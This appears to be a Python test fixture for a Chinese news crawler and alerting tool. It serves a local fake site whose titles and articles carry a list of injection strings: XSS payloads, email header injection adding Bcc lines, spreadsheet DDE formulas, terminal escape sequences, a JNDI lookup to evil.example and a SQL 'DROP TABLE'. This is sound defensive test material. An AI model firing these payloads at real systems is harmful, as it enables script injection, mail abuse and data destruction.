"""Fifty texts that want to be more than text, a site that prints them, and a folder of a user whose sources read it."""

import html
import random
import subprocess
from contextlib import ExitStack
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any, Self

from alerts_vendors import CHANNELS, Vendors
from conftest import SOAK, command, environment
from forked import can_fork

from crawler.dates import CST
from crawler.sample.server import Page, Request, Server
from crawler.sample.sinks import SmtpSink

ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
TEXTS = (
    # mentions
    *("@all", "@所有人", "@everyone @here", "@room", '<at user_id="all">所有人</at>', "<at id=all></at>"),
    *("<@everyone>", "<!channel>", "<!here|here>", "<@U0123456>", "<@&1234>", "@13800138000"),
    '<a href="https://matrix.to/#/@all:example.org">所有人</a>',
    # markup
    *("[点此](http://evil.example/a)", "![图](http://evil.example/b.png)", "<http://evil.example/c|点此>"),
    *("**粗** `码` ~~删~~", "# 题 > 引 | 表 |", "http://evil.example/d", "evil.example/e", "[点此][1]"),
    "<script>alert(1)</script>",
    *("<img src=x onerror=document.title='owned'>", "</script><script>document.title='owned'</script>"),
    *("]]><script>document.title='owned'</script>", "<svg onload=document.title='owned'>"),
    *('"><iframe src=javascript:alert(1)>', "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>"),
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # headers and lines
    *("题\r\nBcc: victim@evil.example", "题\nTo: victim@evil.example", "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?="),
    *("题\u2028行", "题\u2029行", "题\x85行", "2026-11-25 08:00:00,000 ERROR fengxiang.run: forged\n2026"),
    # cells
    *("=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(1)", '\t=HYPERLINK("http://evil.example")', "\r=1"),
    "＝1+1",
    # terminals
    f"{ESC}[31m红{ESC}]0;owned{BEL}",
    f"{ESC}]8;;http://evil.example{BEL}点此{ESC}]8;;{BEL}",
    f"{CSI}31m红",
    "\u202e倒\u2066写",
    "\u200b\ufeff\x00",
    # templates and formats
    *(
        "{{ 7 * 7 }} {% for x in y %}{# c #}",
        "%s %(name)s {0} {}",
        "${jndi:ldap://evil.example}",
        "'; DROP TABLE articles; --",
    ),
)
WORDS = tuple(
    "厂房园区企业用地审批专班物流港口机械电子纺织食品医药化工能源人才培训融资税费补贴招商签约开工投产达产验收督办通报考核走访座谈调研论证规划选址"
    "环评供电供水道路仓储检测研发专利标准品牌出口订单产值就业"
)
TOPIC = """\
name = "承接产业转移"
description = "试验。"
query = "承接产业转移"
"""
SOURCE = """\
name = "示例日报"
region = "甘肃"
kind = "daily"
family = "listing"
list_urls = ["http://{address}/news/"]
article = '/news/\\d+\\.html'
private = true
every = "30m"
"""
CONFIG = """\
[crawl]
delay = 0.0
[sources]
folders = ["sources"]
shipped = false
[topics]
folders = ["topics"]
shipped = false
[export]
file = "out/articles.jsonl"
"""
# One of each way to write a message: Markdown, card, plain text, HTML.
EACH = tuple(CHANNELS) if SOAK else ("dingtalk", "feishu", "telegram", "slack", "matrix")


class HostileSite:
    """A context manager: a list and articles whose title, source and text hold the texts that are published."""

    def __init__(self) -> None:
        self.texts: list[str] = ["平"]
        self._server = Server(self._answer, lambda _request, _status: None)
        self.address = self._server.address

    def __enter__(self) -> Self:
        self._server.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.stop()

    def _answer(self, request: Request) -> Page:
        if request.path == "/robots.txt":
            return Page(b"User-agent: *\nDisallow:\n", "text/plain")
        name = request.path.removeprefix("/news/").removesuffix(".html")
        if name:
            return _page(self._article(int(name)), self._title(int(name)))
        links = [
            f'<li><a href="/news/{number}.html">{self._title(number)}</a></li>' for number in range(len(self.texts))
        ]
        return _page(f"<ul>{''.join(links)}</ul>")

    def _title(self, number: int) -> str:
        return html.escape(f"{self.texts[number]}某县第{number}号方案承接产业转移")

    def _article(self, number: int) -> str:
        chance, text = random.Random(number), html.escape(self.texts[number])
        sentences = ["".join(chance.sample(WORDS, 14)) + "均有安排。" for _ in range(9)]
        when = (datetime.now(CST) - timedelta(hours=2)).strftime("%Y-%m-%d %H:%M")
        paragraphs = [f"{text}会议提出承接产业转移。", "".join(sentences[:5]), f"{text}" + "".join(sentences[5:])]
        body = "".join(f"<p>{paragraph}</p>" for paragraph in paragraphs)
        head = f"<h1>{self._title(number)}</h1><div class='info'>来源：{text}报 时间：{when} 作者：{text}员</div>"
        return f"{head}<div class='content'>{body}</div>"


def _page(body: str, title: str = "示例") -> Page:
    text = f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title></head><body>{body}</body></html>"
    return Page(text.encode("utf-8", "surrogatepass"), "text/html; charset=utf-8")


@dataclass
class HostileDesk:
    """The user's folder with a channel of every vendor, and what they took."""

    folder: Path
    site: HostileSite
    vendors: Vendors
    mail: SmtpSink

    def fengxiang(self, *arguments: str, **variables: str) -> CompletedProcess[str]:
        """Run our command as a user does; its output as bytes would be on a terminal."""
        env = environment(**self.vendors.environment, **variables)
        return command(arguments, self.folder, env, fork=can_fork(variables), errors="surrogateescape", newline="")

    def start(self, command: list[str], **variables: str) -> CompletedProcess[str]:
        env = environment(**self.vendors.environment, **variables)
        options: dict[str, Any] = {"cwd": self.folder, "env": env, "capture_output": True, "timeout": 600}
        done = subprocess.run(command, check=False, **options)
        words = (done.stdout.decode("utf-8", "surrogateescape"), done.stderr.decode("utf-8", "surrogateescape"))
        return CompletedProcess(command, done.returncode, *words)


def open_hostile_desk(stack: ExitStack, folder: Path, names: tuple[str, ...] = EACH, **channels: str) -> HostileDesk:
    """Open the site, the vendors and a mail server, and write the folder."""
    mail = stack.enter_context(SmtpSink())
    site, vendors = stack.enter_context(HostileSite()), stack.enter_context(Vendors(folder))
    addresses = {name: CHANNELS[name] for name in names} | {
        "mail": f"mailto://127.0.0.1:{mail.port}?from=fx@example.com&to=desk@example.com"
    }
    lines = [f"  - {url}:\n      tag: {name}" for name, url in (addresses | channels).items()]
    for name, text in (
        ("sources/gs_example.toml", SOURCE.format(address=site.address)),
        ("topics/transfer.toml", TOPIC),
        ("fengxiang.toml", CONFIG),
        ("channels.yaml", "\n".join(["version: 1", "urls:", *lines, ""])),
    ):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, "utf-8")
    return HostileDesk(folder, site, vendors, mail)
